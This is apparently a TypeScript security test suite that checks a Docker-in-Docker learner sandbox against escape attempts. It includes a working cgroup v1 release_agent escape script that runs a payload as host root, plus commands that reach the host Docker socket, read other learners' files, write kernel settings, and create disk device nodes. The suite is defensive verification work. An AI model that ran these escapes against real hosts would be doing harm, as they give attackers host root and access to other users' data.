// The escape suite: what a learner with root in their sandbox tries in order to reach the host, other
// learners or the network. Every attack runs as the learner's shell does (root, in the sandbox, through
// the same exec path as the terminal) against an isolated sandbox, where it must be refused with the
// kernel's exact refusal, and against a trusted one, where the same attack must work — so each case
// would fail if the protection it claims were switched off. Attacks that succeed on trusted are made
// harmless: values are rewritten unchanged, the clock is set to the time it already is, the host-side
// program only writes into a folder this test made, a moved process is killed at once.
import { after, before, describe, test, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { closeSync, existsSync, openSync } from 'node:fs';
import { randomBytes } from 'node:crypto';
import { chmod, mkdtemp, readFile, rm, statfs } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DindDriver } from '../../server/sandbox/dind.ts';
import { resourceName } from '../../server/sandbox/naming.ts';
import type { ExecResult, Sandbox } from '../../server/sandbox/sandbox.ts';
import { requireDocker } from '../support/require.ts';

const LAB_ID = `test-escape-${randomBytes(3).toString('hex')}`;
const SECRET = `secret-${randomBytes(6).toString('hex')}`;
/** Small enough that filling it costs the host little on the trusted side, large enough for an engine. */
const DISK_BYTES = 1024 ** 3;
const FILL = '1500M';
const FILL_BYTES = 1500 * 1024 ** 2;
const LISTENER_REPLY = `host-listener-${randomBytes(4).toString('hex')}`;
/** An address in TEST-NET-3 (RFC 5737): `ip route get` only asks the routing table, nothing is sent. */
const OUTSIDE_ADDRESS = '203.0.113.7';

interface Level {
  isolation: 'isolated' | 'trusted';
  driver: DindDriver;
  /** The attacker's sandbox and another learner's. */
  attacker: Sandbox;
  victim: Sandbox;
}

let stateDir = '';
let markerDir = '';
let listener: Server | undefined;
let listenerPort = 0;
const levels = new Map<'isolated' | 'trusted', Level>();
const hostDocker = execFileSync('sh', ['-c', 'command -v docker']).toString().trim();

before(async () => {
  stateDir = await mkdtemp(join(tmpdir(), 'lr-esc-'));
  markerDir = await mkdtemp(join(tmpdir(), 'lr-esc-marker-'));
  await chmod(markerDir, 0o777);
  // The "host service" a sandbox must not reach: a listener of this test's own, on every host address.
  listener = createServer((s) => s.end(`HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n${LISTENER_REPLY}\n`));
  await new Promise<void>((resolve) => listener?.listen(0, '0.0.0.0', resolve));
  const address = listener.address();
  listenerPort = typeof address === 'object' && address ? address.port : 0;
});

after(async () => {
  listener?.close();
  for (const level of levels.values()) {
    await Promise.all([level.attacker.destroy(), level.victim.destroy()]);
    await level.driver.reap((labels) => labels['labrun.lab'] !== LAB_ID);
  }
  await rm(markerDir, { recursive: true, force: true });
  await rm(stateDir, { recursive: true, force: true });
});

async function level(isolation: 'isolated' | 'trusted'): Promise<Level> {
  let l = levels.get(isolation);
  if (!l) {
    const driver = new DindDriver({ stateDir: join(stateDir, isolation[0] ?? 'x'), isolation, diskBytes: DISK_BYTES });
    const spec = (learnerId: string) => ({ labId: LAB_ID, learnerId, workspace: 'escape', images: [] });
    const [attacker, victim] = await Promise.all([driver.create(spec('attacker')), driver.create(spec('victim'))]);
    const wrote = await victim.exec({ argv: ['sh', '-c', `echo ${SECRET} > secret.txt`] });
    assert.equal(wrote.exitCode, 0, wrote.stderr);
    l = { isolation, driver, attacker, victim };
    levels.set(isolation, l);
  }
  return l;
}

function sh(sb: Sandbox, script: string, env: Record<string, string> = {}): Promise<ExecResult> {
  return sb.exec({ argv: ['bash', '-c', script], env, timeoutMs: 60_000 });
}

const out = (r: ExecResult) => `${r.stdout}${r.stderr}`;

/**
 * The cgroup v1 release_agent escape: mount a hierarchy, point its release_agent at a script in the
 * container's own root filesystem (by its path on the host), empty a cgroup, and the host kernel runs
 * the script as host root. `payload` is what that script runs on the host.
 */
const RELEASE_AGENT = String.raw`
set -u
d=$(mktemp -d /tmp/cg.XXXXXX)
mount -t cgroup -o memory cgroup "$d" || exit 20
before=$(cat "$d/release_agent") || exit 21
mkdir -p "$d/x-$$" && echo 1 > "$d/x-$$/notify_on_release" || exit 22
upper=$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /proc/self/mountinfo | head -n 1)
printf '#!/bin/sh\n%s\n' "$PAYLOAD" > /labrun-payload && chmod +x /labrun-payload || exit 23
echo "$upper/labrun-payload" > "$d/release_agent" || exit 24
sh -c "echo \$\$ > '$d/x-$$/cgroup.procs'"
# The kernel starts the agent as soon as the cgroup empties; give it a moment before restoring.
sleep 1
echo "$before" > "$d/release_agent"; rmdir "$d/x-$$"; umount "$d"
echo escaped`;

/** Tries the release_agent escape with a payload that writes to `out`, a file in a host folder of this test's. */
async function hostRoot(l: Level, payload: (out: string) => string): Promise<{ result: ExecResult; marker: string }> {
  const dir = await mkdtemp(join(markerDir, `${l.isolation}-`));
  await chmod(dir, 0o777);
  const file = join(dir, 'out');
  const result = await sh(l.attacker, RELEASE_AGENT, { PAYLOAD: payload(file) });
  const written = await readFile(file, 'utf8').catch(() => '');
  return { result, marker: written.trim() };
}

const RELEASE_AGENT_REFUSED = /cat: \/tmp\/cg\.\w+\/release_agent: No such file or directory/;

interface Attack {
  name: string;
  /** Runs the attack against `l.attacker`; returns what it printed (and anything the host saw). */
  run(l: Level): Promise<{ result: ExecResult; seen?: string }>;
  /** The isolated level's exact refusal, in what the attack printed. */
  refused: RegExp;
  /** What shows the attack worked on the trusted level. */
  worked(r: { result: ExecResult; seen?: string }): void;
}

const ATTACKS: Attack[] = [
  {
    name: 'cgroup v1 release_agent runs a program as host root',
    run: async (l) => {
      const { result, marker } = await hostRoot(l, (file) => `id -u > ${file}`);
      return { result, seen: marker };
    },
    // In its own cgroup namespace the sandbox may mount a hierarchy, but the kernel hides release_agent there.
    refused: RELEASE_AGENT_REFUSED,
    worked: ({ result, seen }) => {
      assert.match(result.stdout, /escaped/);
      assert.equal(seen, '0', 'the host-side program ran as root');
    },
  },
  {
    name: "reach the host's Docker socket",
    run: async (l) => {
      const { result, marker } = await hostRoot(l, (file) => `${hostDocker} -H unix:///var/run/docker.sock info --format '{{.ID}}' > ${file}`);
      // Every engine socket the learner can find answers with the sandbox's own daemon, never the host's.
      const sockets = await sh(l.attacker, `for s in $(find / -xdev -name '*.sock' -type s 2>/dev/null) /var/run/docker.sock; do docker -H "unix://$s" info --format '{{.ID}}' 2>/dev/null; done | sort -u`);
      return { result, seen: `${marker}|${sockets.stdout.trim()}` };
    },
    refused: RELEASE_AGENT_REFUSED,
    worked: ({ seen }) => assert.equal(seen?.split('|')[0], hostEngineId(), 'the host engine answered the learner'),
  },
  {
    name: "read another learner's files",
    run: async (l) => {
      const victim = resourceName(l.victim.id);
      const { result, marker } = await hostRoot(l, (file) => `${hostDocker} exec ${victim} cat ${l.victim.workspacePath}/secret.txt > ${file}`);
      const direct = await sh(l.attacker, `cat /proc/*/root${l.victim.workspacePath}/secret.txt 2>/dev/null; ip -o -4 addr show | awk '{print $2, $4}'`);
      return { result, seen: `${marker}|${direct.stdout}` };
    },
    refused: RELEASE_AGENT_REFUSED,
    worked: ({ seen }) => assert.equal(seen?.split('|')[0], SECRET),
  },
  {
    name: 'write /proc/sys/kernel/core_pattern (a program the host runs on every crash)',
    run: async (l) => ({ result: await sh(l.attacker, 'v=$(cat /proc/sys/kernel/core_pattern) && printf "%s\\n" "$v" > /proc/sys/kernel/core_pattern && echo wrote') }),
    refused: /\/proc\/sys\/kernel\/core_pattern: Permission denied/,
    worked: ({ result }) => assert.match(result.stdout, /wrote/),
  },
  {
    name: 'write a host-wide kernel setting (/proc/sys/kernel/panic)',
    run: async (l) => ({ result: await sh(l.attacker, 'v=$(cat /proc/sys/kernel/panic) && printf "%s\\n" "$v" > /proc/sys/kernel/panic && echo wrote') }),
    refused: /\/proc\/sys\/kernel\/panic: Permission denied/,
    worked: ({ result }) => assert.match(result.stdout, /wrote/),
  },
  {
    name: 'trigger /proc/sysrq-trigger',
    // 'h' only prints the help text to the kernel log.
    run: async (l) => ({ result: await sh(l.attacker, 'echo h > /proc/sysrq-trigger && echo wrote') }),
    refused: /\/proc\/sysrq-trigger: (Permission denied|No such file or directory|Read-only file system)/,
    worked: ({ result }) => {
      if (existsSync('/proc/sysrq-trigger')) assert.match(result.stdout, /wrote/);
      // A kernel built without magic SysRq has no such file anywhere: then trusted sees what the host sees.
      else assert.match(out(result), /\/proc\/sysrq-trigger: No such file or directory/);
    },
  },
  {
    name: "set the host's clock",
    run: async (l) => ({ result: await sh(l.attacker, 'date -s "$(date "+%Y-%m-%d %H:%M:%S.%N")" >/dev/null && echo set') }),
    refused: /date: cannot set date: Operation not permitted/,
    worked: ({ result }) => assert.match(result.stdout, /set/),
  },
  {
    name: 'load a kernel module',
    // Not a real module: on trusted the call reaches the kernel's module loader, which rejects it as
    // malformed (or, in a kernel built without modules, as not implemented); isolated stops it before.
    run: async (l) => ({ result: await sh(l.attacker, 'head -c 64 /dev/zero > /tmp/m.ko && insmod /tmp/m.ko') }),
    refused: /insmod: ERROR: could not insert module \/tmp\/m\.ko: Operation not permitted/,
    worked: ({ result }) => assert.match(out(result), /could not insert module \/tmp\/m\.ko: (Invalid module format|Invalid argument|Exec format error|Function not implemented)/),
  },
  {
    name: "read the host's disk through a device node",
    run: async (l) => {
      const made = await sh(
        l.attacker,
        'd=$(ls /sys/block | grep -v -e "^loop" -e "^ram" | head -n 1); mm=$(cat /sys/block/$d/dev); rm -f /tmp/disk; mknod /tmp/disk b ${mm%:*} ${mm#*:} && echo "made $d"',
      );
      const disk = /made (\w+)/.exec(made.stdout)?.[1];
      if (disk === undefined) return { result: made };
      // Docker's device cgroup still stops the open on trusted; the same learner reads it as host root instead.
      const { marker } = await hostRoot(l, (file) => `dd if=/dev/${disk} bs=4096 count=1 status=none | od -An -tx1 | head -n 1 > ${file}`);
      return { result: made, seen: marker };
    },
    refused: /mknod: \/tmp\/disk: Operation not permitted/,
    worked: ({ result, seen }) => {
      assert.match(result.stdout, /made \w+/, out(result));
      const disk = /made (\w+)/.exec(result.stdout)?.[1] ?? '';
      // Some VMs refuse raw disk reads even to the host's own root; there the device node is as far as anyone gets.
      if (hostCanRead(`/dev/${disk}`)) assert.match(seen ?? '', /^[0-9a-f]{2}( [0-9a-f]{2})+/, `no bytes read from the host's disk: ${seen ?? ''}`);
    },
  },
  {
    name: "read the host's kernel log",
    run: async (l) => ({ result: await sh(l.attacker, 'dmesg | tail -n 1') }),
    refused: /dmesg: read kernel buffer failed: Operation not permitted/,
    worked: ({ result }) => assert.equal(result.exitCode, 0, out(result)),
  },
  {
    name: 'leave its own cgroups (and with them its memory and process limits)',
    run: async (l) => ({
      result: await sh(
        l.attacker,
        // Mount the pids hierarchy and move a process to the top of what it shows.
        'mkdir -p /tmp/cgp && mount -t cgroup -o pids cgroup /tmp/cgp || exit 20; sleep 60 & p=$!; echo $p > /tmp/cgp/cgroup.procs && grep -E ":pids:" /proc/$p/cgroup; kill $p; umount /tmp/cgp',
      ),
    }),
    // The isolated sandbox's hierarchy starts at its own cgroup (its cgroup namespace), which it may not change.
    refused: /\/tmp\/cgp\/cgroup\.procs: Permission denied/,
    worked: ({ result }) => assert.match(result.stdout, /^\d+:pids:\/$/m, `the process stayed in its cgroup: ${out(result)}`),
  },
  {
    name: 'reach a service on the host (a listener this test started on every host address)',
    run: async (l) => ({
      result: await sh(
        l.attacker,
        // The default gateway is the host on the trusted level; the isolated level has none, so try the host's bridge addresses.
        `for a in $(ip route | awk '/^default/ {print $3}') ${hostBridgeAddresses().join(' ')}; do curl -sS -m 3 "http://$a:${listenerPort}/" && exit 0; done; exit 7`,
      ),
    }),
    refused: /curl: \(7\) Failed to connect to [\d.]+ port \d+ after \d+ ms: (Couldn't connect to server|Could not connect to server|Network is unreachable)/,
    worked: ({ result }) => assert.match(result.stdout, new RegExp(LISTENER_REPLY)),
  },
  {
    name: 'call the kernel without a seccomp filter (the second wall behind the user namespace)',
    run: async (l) => ({ result: await sh(l.attacker, 'grep -E "^Seccomp:" /proc/self/status') }),
    // 2 = a filter is in force (labrun's profile); 0 = every syscall reaches the kernel.
    refused: /^Seccomp:\s+2$/m,
    worked: ({ result }) => assert.match(result.stdout, /^Seccomp:\s+0$/m),
  },
  {
    name: 'route to an address outside the machine',
    run: async (l) => ({ result: await sh(l.attacker, `ip route get ${OUTSIDE_ADDRESS}`) }),
    refused: /RTNETLINK answers: Network is unreachable/,
    worked: ({ result }) => assert.match(result.stdout, new RegExp(`${OUTSIDE_ADDRESS.replace(/\./g, '\\.')} via [\\d.]+ dev eth0`)),
  },
];

function hostCanRead(path: string): boolean {
  try {
    closeSync(openSync(path, 'r'));
    return true;
  } catch {
    return false;
  }
}

let hostEngineIdCache: string | undefined;
function hostEngineId(): string {
  hostEngineIdCache ??= execFileSync('docker', ['info', '--format', '{{.ID}}']).toString().trim();
  return hostEngineIdCache;
}

/** IPv4 addresses of the host's Docker bridges (docker0, labrun0): where a sandbox would find the host. */
function hostBridgeAddresses(): string[] {
  const text = execFileSync('ip', ['-o', '-4', 'addr', 'show']).toString();
  return [...text.matchAll(/^\d+: (docker0|labrun0|br-\w+)\s+inet ([\d.]+)\//gm)].map((m) => m[2] ?? '').filter(Boolean);
}

describe('escape suite: every attack is refused on the isolated level', () => {
  for (const attack of ATTACKS) {
    test(attack.name, async (t) => {
      if (!requireDocker(t)) return;
      const l = await level('isolated');
      const r = await attack.run(l);
      assert.match(out(r.result), attack.refused, `not refused as expected:\n${out(r.result)}`);
      assert.doesNotMatch(r.result.stdout, /\bescaped\b|\bwrote\b|^set$/m, `the attack went through:\n${out(r.result)}`);
      if (r.seen !== undefined) {
        assert.doesNotMatch(r.seen, new RegExp(`${SECRET}|${hostEngineId()}`), `the attack reached the host or the other learner: ${r.seen}`);
      }
    });
  }
});

describe('escape suite: the same attacks work on the trusted level (so the suite can fail)', () => {
  for (const attack of ATTACKS) {
    test(attack.name, async (t) => {
      if (!requireDocker(t)) return;
      const l = await level('trusted');
      attack.worked(await attack.run(l));
    });
  }
});

describe('escape suite: filling the disk', () => {
  test('isolated: every writable place is inside the disk limit; the host keeps its space and the other learner keeps working', async (t) => {
    if (!requireDocker(t)) return;
    const l = await level('isolated');
    const freeBefore = await hostFree();
    const r = await sh(
      l.attacker,
      `for f in /root/fill /tmp/fill /var/lib/docker/fill; do fallocate -l ${FILL} $f; done; fallocate -l 10M /var/fill; fallocate -l 10M /etc/fill; df -B1 --output=size /root | tail -n 1`,
    );
    const text = out(r);
    for (const f of ['/root/fill', '/tmp/fill', '/var/lib/docker/fill']) {
      assert.match(text, new RegExp(`fallocate: fallocate failed: No space left on device|${f}`), text);
    }
    assert.equal((text.match(/No space left on device/g) ?? []).length, 3, `each fill hit the limit:\n${text}`);
    assert.match(text, /fallocate: cannot open \/var\/fill: Read-only file system/);
    assert.match(text, /fallocate: cannot open \/etc\/fill: Read-only file system/);
    assert.ok(Number(r.stdout.trim().split('\n').pop()) <= DISK_BYTES, `the disk is no larger than its limit: ${r.stdout}`);
    assert.ok(freeBefore - (await hostFree()) < DISK_BYTES + 64 * 1024 ** 2, "the host's free space fell by more than the sandbox's disk");
    const other = await sh(l.victim, 'cat secret.txt && docker info --format {{.ServerVersion}}');
    assert.equal(other.exitCode, 0, out(other));
    assert.match(other.stdout, new RegExp(SECRET));
    await sh(l.attacker, 'rm -f /root/fill /tmp/fill /var/lib/docker/fill');
  });

  test("trusted: the same fill lands on the host's disk", async (t) => {
    if (!requireDocker(t)) return;
    const l = await level('trusted');
    const freeBefore = await hostFree();
    const r = await sh(l.attacker, `fallocate -l ${FILL} /root/fill && echo filled`);
    try {
      assert.match(r.stdout, /filled/, out(r));
      assert.ok(freeBefore - (await hostFree()) > FILL_BYTES * 0.9, "the host's free space did not fall by the fill");
    } finally {
      await sh(l.attacker, 'rm -f /root/fill');
    }
  });
});

/** Free bytes on the filesystem that holds the host engines' state. */
async function hostFree(): Promise<number> {
  const s = await statfs('/var/lib');
  return s.bavail * s.bsize;
}

/**
 * A stand-in for "the internet": a network namespace of this test's own with an address from
 * TEST-NET-2 (RFC 5737), reached from the host over a veth pair, serving one reply over HTTP.
 */
async function fakeOutside(t: TestContext): Promise<{ address: string; port: number; reply: string }> {
  const tag = randomBytes(2).toString('hex');
  const ns = `lrout-${tag}`;
  const [hostEnd, nsEnd] = [`lro${tag}h`, `lro${tag}n`];
  const address = '198.51.100.1';
  const reply = `outside-${randomBytes(4).toString('hex')}`;
  const ip = (...args: string[]) => execFileSync('ip', args, { stdio: 'pipe' });
  ip('netns', 'add', ns);
  t.after(() => {
    server.kill('SIGKILL');
    execFileSync('ip', ['netns', 'del', ns], { stdio: 'pipe' });
  });
  ip('link', 'add', hostEnd, 'type', 'veth', 'peer', 'name', nsEnd, 'netns', ns);
  ip('addr', 'add', '198.51.100.254/24', 'dev', hostEnd);
  ip('link', 'set', hostEnd, 'up');
  ip('-n', ns, 'addr', 'add', `${address}/24`, 'dev', nsEnd);
  ip('-n', ns, 'link', 'set', nsEnd, 'up');
  ip('-n', ns, 'link', 'set', 'lo', 'up');
  ip('-n', ns, 'route', 'add', 'default', 'via', '198.51.100.254');
  const port = 8080;
  const server = spawn('ip', ['netns', 'exec', ns, process.execPath, '-e', `require('node:http').createServer((q, s) => s.end('${reply}\\n')).listen(${port}, '${address}', () => console.log('listening'))`], { stdio: ['ignore', 'pipe', 'inherit'] });
  await new Promise<void>((resolve, reject) => {
    server.stdout.once('data', () => resolve());
    server.once('exit', (code) => reject(new Error(`the outside listener exited (${code})`)));
  });
  return { address, port, reply };
}

describe('escape suite: a lab with egress', () => {
  test('reaches an outside address, but not this host, nor another sandbox on the egress network', async (t) => {
    if (!requireDocker(t)) return;
    const outside = await fakeOutside(t);
    const driver = new DindDriver({ stateDir: join(stateDir, 'e'), diskBytes: DISK_BYTES });
    const spec = (learnerId: string, images: string[]) => ({ labId: LAB_ID, learnerId, workspace: 'escape', images, egress: true });
    const [attacker, victim] = await Promise.all([driver.create(spec('egress-attacker', [])), driver.create(spec('egress-victim', ['nginx:latest']))]);
    t.after(() => Promise.all([attacker.destroy(), victim.destroy()]));

    const out1 = await sh(attacker, `curl -sS -m 5 http://${outside.address}:${outside.port}/`);
    assert.equal(out1.stdout.trim(), outside.reply, `egress did not reach the outside address: ${out(out1)}`);

    const toHost = await sh(attacker, `for a in $(ip route | awk '/^default/ {print $3}') ${hostBridgeAddresses().join(' ')}; do curl -sS -m 2 "http://$a:${listenerPort}/"; done; true`);
    assert.doesNotMatch(toHost.stdout, new RegExp(LISTENER_REPLY), `an egress sandbox reached a service on the host: ${out(toHost)}`);
    assert.match(toHost.stderr, /curl: \((7|28)\)/);

    // The other learner serves a page on their egress address; they reach it themselves, the attacker does not.
    const served = await sh(victim, 'docker run -d -p 8080:80 nginx:latest >/dev/null && ip -4 -o addr show eth0 | awk \'{print $4}\' | cut -d/ -f1');
    const victimAddress = served.stdout.trim();
    assert.match(victimAddress, /^10\.214\.\d+\.\d+$/, out(served));
    const own = await sh(victim, `for i in $(seq 1 50); do curl -s -m 2 http://${victimAddress}:8080/ && exit 0; sleep 0.2; done; exit 1`);
    assert.match(own.stdout, /Welcome to nginx!/, 'control: the page is up');
    const cross = await sh(attacker, `curl -sS -m 3 http://${victimAddress}:8080/`);
    assert.doesNotMatch(cross.stdout, /Welcome to nginx!/, `one sandbox reached another over the egress network: ${out(cross)}`);
    assert.match(cross.stderr, /curl: \(28\)/);
  });
});
